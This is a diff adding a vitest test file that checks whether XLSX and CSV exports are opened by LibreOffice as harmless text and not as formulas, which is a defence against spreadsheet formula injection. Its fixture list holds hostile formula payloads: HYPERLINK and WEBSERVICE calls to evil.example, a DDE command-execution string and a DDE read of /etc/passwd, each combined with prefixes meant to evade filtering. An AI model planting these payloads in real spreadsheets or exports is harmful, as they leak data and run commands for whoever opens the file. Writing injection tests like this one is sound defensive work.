@@ -1,0 +1,85 @@
+import { spawnSync } from "node:child_process";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { buffer } from "node:stream/consumers";
+import { describe, expect, test } from "vitest";
+import { LANGUAGES } from "@/contract/languages";
+import { testFolder } from "@/tests/support/folder";
+import { writeCsv } from "../../paper/csv";
+import type { Table } from "../../paper/table";
+import { writeXlsx } from "./export-xlsx";
+
+/* What a spreadsheet program makes of the tables, opened by LibreOffice. */
+
+const isThere = !spawnSync("soffice", ["--version"], { stdio: "ignore" }).error;
+if (!isThere) {
+  console.warn("SKIPPED: no spreadsheet opens the tables (apt install libreoffice-calc)");
+}
+
+const BEFORE = ["", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", '"', "'", ";", "x\n"];
+const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", "{="];
+const ACTS = [
+  "1+1",
+  "SUM(C1:C9)",
+  'HYPERLINK("http://evil.example/"&A1;"Apri")',
+  "cmd|' /C calc'!A0",
+  'WEBSERVICE("http://evil.example/")',
+  'DDE("soffice";"/etc/passwd";"A1")',
+];
+const texts = BEFORE.flatMap((before) =>
+  SIGNS.flatMap((sign) => ACTS.map((act) => before + sign + act)),
+);
+const table: Table = {
+  name: "ostile",
+  sheet: "Ostile",
+  columns: [{ title: "Testo" }, { title: "Segno" }],
+  rows: texts.map((text, index) => [text, `n${index}`]),
+  fixed: 1,
+};
+
+/**
+ * The cells of a file as LibreOffice reads it.
+ *
+ * @returns its formulas, and the text beside each sign
+ */
+async function opened(name: string, bytes: Buffer, filter?: string) {
+  const folder = await testFolder("spreadsheet");
+  writeFileSync(join(folder, name), bytes);
+  const profile = `-env:UserInstallation=file://${folder}/profile`;
+  const convert = ["--headless", "--convert-to", "fods", "--outdir", folder, join(folder, name)];
+  const read = filter ? [`--infilter=${filter}`] : [];
+  spawnSync("soffice", [profile, ...read, ...convert], { timeout: 240_000 });
+  const xml = readFileSync(join(folder, name.replace(/\.\w+$/, ".fods")), "utf8");
+  return {
+    formulas: xml.match(/table:formula="[^"]*"/g) ?? [],
+    numbers: xml.match(/office:value-type="(?:float|date|currency|percentage)"/g) ?? [],
+    links: xml.match(/<text:a /g) ?? [],
+    rows: xml.match(/>n\d+</g)?.length,
+  };
+}
+
+const HARMLESS = { formulas: [], numbers: [], links: [], rows: texts.length };
+
+describe.skipIf(!isThere)(
+  `${texts.length} texts that might be formulas`,
+  { timeout: 300_000 },
+  () => {
+    test("are texts in the workbook", async () => {
+      const bytes = await buffer(writeXlsx([table], new Date("2026-08-20T10:00:00.000Z")));
+      expect(await opened("ostile.xlsx", bytes)).toEqual(HARMLESS);
+    });
+
+    test.each(LANGUAGES)("are texts in the table of %s", async (language) => {
+      const bytes = await buffer(writeCsv(table, language));
+      // The separator of this language, double quotation marks, UTF-8, from the first line.
+      const separator = bytes.includes('"Testo";"Segno"') ? 59 : 44;
+      const filter = `CSV:${separator},34,76,1`;
+      expect(await opened("ostile.csv", bytes, filter)).toEqual(HARMLESS);
+    });
+
+    test("a formula would be found", async () => {
+      const bytes = Buffer.from("=1+1,n0\r\n");
+      expect((await opened("ostile.csv", bytes, "CSV:44,34,76,1")).formulas).toHaveLength(1);
+    });
+  },
+);
